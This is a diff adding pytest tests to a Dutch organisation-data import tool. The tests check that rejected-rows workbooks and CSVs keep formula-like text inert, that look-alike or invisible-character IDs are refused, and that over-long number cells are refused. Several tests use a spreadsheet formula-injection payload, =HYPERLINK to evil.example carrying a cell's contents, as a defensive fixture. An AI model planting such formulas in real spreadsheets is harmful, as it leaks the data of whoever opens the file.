@@ -228,6 +228,131 @@ def test_csv_files_named_after_what_they_hold(engine: Any, tmp_path: Path) -> No
     ]
 
 
+def test_a_rejected_rows_workbook_keeps_text_that_looks_like_a_formula_as_text(engine: Any, tmp_path: Path) -> None:
+    """Found by attack: the rejected rows' workbook (the default of ``--skip-invalid`` for several CSV files or a
+    workbook) stored a text starting with ``=`` as a formula, so a name typed as
+    ``=HYPERLINK("https://evil.example/?"&C2,"Klik")`` became a live formula, reading the row's cells, in the file the
+    administrator opens to fix the rows. Every text is written as text, and imports again as it was."""
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("https://evil.example/?"&C2,"Klik")'
+    (tmp_path / "afdelingen.csv").write_text("Code;Naam\nzorg;Zorg\n", encoding="utf-8")
+    quoted = '"' + evil.replace('"', '""') + '"'
+    (tmp_path / "medewerkers.csv").write_text(
+        "personeelsnummer;naam;e-mailadres;afdeling\n"
+        f"m1;{quoted};jan@example.nl;bestaat-niet\n"
+        "m2;=1+1;ria@example.nl;zorg\n", encoding="utf-8")
+    files = [tmp_path / "afdelingen.csv", tmp_path / "medewerkers.csv"]
+    result = import_organisation(engine, files, skip_invalid=True, now=NOW)
+    assert [(r.entity, r.row) for r in result.rejected] == [("employees", 2)]
+    [rejected] = write_rejected(result, tmp_path / "afgekeurd.xlsx")
+    book = load_workbook(rejected)
+    cells = next(book["employees"].iter_rows(min_row=2))
+    assert [(c.value, c.data_type) for c in cells[:2]] == [("m1", "s"), (evil, "s")]
+    assert not any(c.data_type == "f" for row in book["employees"].iter_rows() for c in row)
+    book.close()
+    fixed = load_workbook(rejected)
+    fixed["employees"]["D2"] = "zorg"
+    fixed.save(rejected)
+    again = import_organisation(engine, [rejected], now=NOW)
+    assert again.ok, again.lines()
+    found = EmployeeDirectory(engine).get("m1")
+    assert found is not None and found.name == evil
+
+
+@pytest.mark.parametrize(("second", "message"), [
+    ("E1", "id: 'E1' differs from 'e1' (row 2) only in case or look"),
+    ("\uff45\uff11", "id: 'ｅ１' differs from 'e1' (row 2) only in case or look"),  # full-width
+    ("e\u200b1", "id: 'e\\u200b1' holds a control or invisible character (U+200B)"),
+    ("e1\u202e", "id: 'e1\\u202e' holds a control or invisible character (U+202E)"),
+    ('"e1\ne2"', "id: 'e1\\ne2' holds a control or invisible character (U+000A)"),
+])
+def test_an_id_that_only_looks_like_another_is_refused_naming_its_row(engine: Any, tmp_path: Path, second: str,
+                                                                      message: str) -> None:
+    """Found by attack: ``E1`` beside ``e1``, a zero-width space or a line break typed into the cell were imported as
+    another person (ids are compared exactly), each with half of the roles and links meant for one; now the row is
+    refused and names the row (or the store) whose id it looks like; nothing is written."""
+    (tmp_path / "afdelingen.csv").write_text("Code;Naam\nzorg;Zorg\n", encoding="utf-8")
+    (tmp_path / "medewerkers.csv").write_text(
+        f"personeelsnummer;naam;afdeling\ne1;Anna;zorg\n{second};Anna;zorg\n", encoding="utf-8")
+    files = [tmp_path / "afdelingen.csv", tmp_path / "medewerkers.csv"]
+    result = import_organisation(engine, files, now=NOW)
+    assert not result.ok
+    [error] = result.errors
+    assert error.row == 3 and error.message.startswith(message), str(error)
+    assert EmployeeDirectory(engine).count() == 0
+
+
+def test_an_id_that_only_looks_like_a_stored_one_is_refused_and_a_stored_one_is_taken(engine: Any,
+                                                                                      tmp_path: Path) -> None:
+    (tmp_path / "afdelingen.csv").write_text("Code;Naam\nzorg;Zorg\n", encoding="utf-8")
+    (tmp_path / "medewerkers.csv").write_text("personeelsnummer;naam;afdeling\ne1;Anna;zorg\n", encoding="utf-8")
+    files = [tmp_path / "afdelingen.csv", tmp_path / "medewerkers.csv"]
+    assert import_organisation(engine, files, now=NOW).ok
+    (tmp_path / "afdelingen.csv").write_text("Code;Naam\nZorg;Zorg\n", encoding="utf-8")
+    (tmp_path / "medewerkers.csv").write_text("personeelsnummer;naam\nE1;Anna\n", encoding="utf-8")
+    result = import_organisation(engine, files, now=NOW)
+    assert [(e.row, e.message) for e in result.errors] == [
+        (2, "id: 'Zorg' differs from 'zorg' (the store) only in case or look: write the one id the other systems use "
+            "for both"),
+        (2, "id: 'E1' differs from 'e1' (the store) only in case or look: write the one id the other systems use for "
+            "both")]
+    assert EmployeeDirectory(engine).count() == 1
+    (tmp_path / "medewerkers.csv").write_text("personeelsnummer;naam\ne1;Anna de Vries\n", encoding="utf-8")
+    again = import_organisation(engine, [tmp_path / "medewerkers.csv"], now=NOW)
+    assert again.ok, again.lines()
+    found = EmployeeDirectory(engine).get("e1")
+    assert found is not None and found.name == "Anna de Vries"
+
+
+def test_a_rejected_rows_csv_marks_text_that_would_start_a_formula_and_imports_as_it_was(engine: Any,
+                                                                                        tmp_path: Path) -> None:
+    """The CSV file of rejected rows wrote ``=HYPERLINK(...)`` as it was: from a workbook's text cell (or with
+    ``--rejected x.csv``) it became a formula where the administrator opens it. A text that would start a formula
+    gets Excel's text mark ``'``, which the reader takes off again, so the fixed file imports as it was."""
+    import csv
+
+    names = ['=HYPERLINK("https://evil.example/?"&A2,"Klik")', "+31 6 12345678", "-5 graden", "@SUM(A1)",
+             "'t Hart"]
+    with (tmp_path / "afdelingen.csv").open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle, delimiter=";")
+        writer.writerow(["Code", "Naam", "Valt onder"])
+        writer.writerows([[f"d{i}", name, "bestaat-niet"] for i, name in enumerate(names)])
+    result = import_organisation(engine, [tmp_path / "afdelingen.csv"], skip_invalid=True, now=NOW)
+    assert len(result.rejected) == len(names)
+    [rejected] = write_rejected(result, tmp_path / "afdelingen-afgekeurd.csv")
+    with rejected.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle, delimiter=";"))
+    assert [row[1] for row in rows[1:]] == ["'" + n for n in names[:4]] + ["'t Hart"]
+    with rejected.open("w", encoding="utf-8", newline="") as handle:  # the administrator fixes the parent cells
+        csv.writer(handle, delimiter=";").writerows([rows[0]] + [[*row[:2], "", *row[3:]] for row in rows[1:]])
+    again = import_organisation(engine, [rejected], now=NOW)
+    assert again.ok, again.lines()
+    with engine.connect() as conn:
+        stored = dict(conn.execute(sa.select(org_units.c.id, org_units.c.name)).all())
+    assert [stored[f"d{i}"] for i in range(len(names))] == names
+
+
+def test_a_number_cell_of_more_digits_than_a_spreadsheet_keeps_is_refused(engine: Any, tmp_path: Path) -> None:
+    """A personeelsnummer of 16 digits typed into a number cell is stored rounded to 15 (``1234567890123456`` as
+    ``1.23456789012345E+15``); it was imported as ``1234567890123450``, digits nobody typed, which could be another
+    person's number. Now a row problem; 15 digits and fewer are taken as before."""
+    sheets = sheets_with()
+    sheets["Medewerkers"].append([1234567890123450.0, "Kim", "kim@example.nl", "2027-01-01", "verpleegkundige",
+                                  "wijk", None, None, None, None])
+    sheets["Medewerkers"].append([123456789012345.0, "Lot", "lot@example.nl", "2027-01-01", "verpleegkundige",
+                                  "wijk", None, None, None, None])
+    result = import_organisation(engine, [workbook(tmp_path / "org.xlsx", sheets)], compiled=standard(), now=NOW)
+    assert [(e.row, e.message) for e in result.errors] == [
+        (5, "id: 1.23456789012345e+15 is a number cell of more than 15 digits, which a spreadsheet does not keep "
+            "exactly; text is expected (format the column as text and type the number again)")]
+    assert EmployeeDirectory(engine).count() == 0
+    sheets["Medewerkers"].pop(4)
+    again = import_organisation(engine, [workbook(tmp_path / "org2.xlsx", sheets)], compiled=standard(), now=NOW)
+    assert again.ok, again.lines()
+    assert EmployeeDirectory(engine).get("123456789012345") is not None
+
+
 def test_cli_text_and_json(tmp_path: Path) -> None:
     from regelwerk.cli import cli
     from regelwerk.registry import load_registry
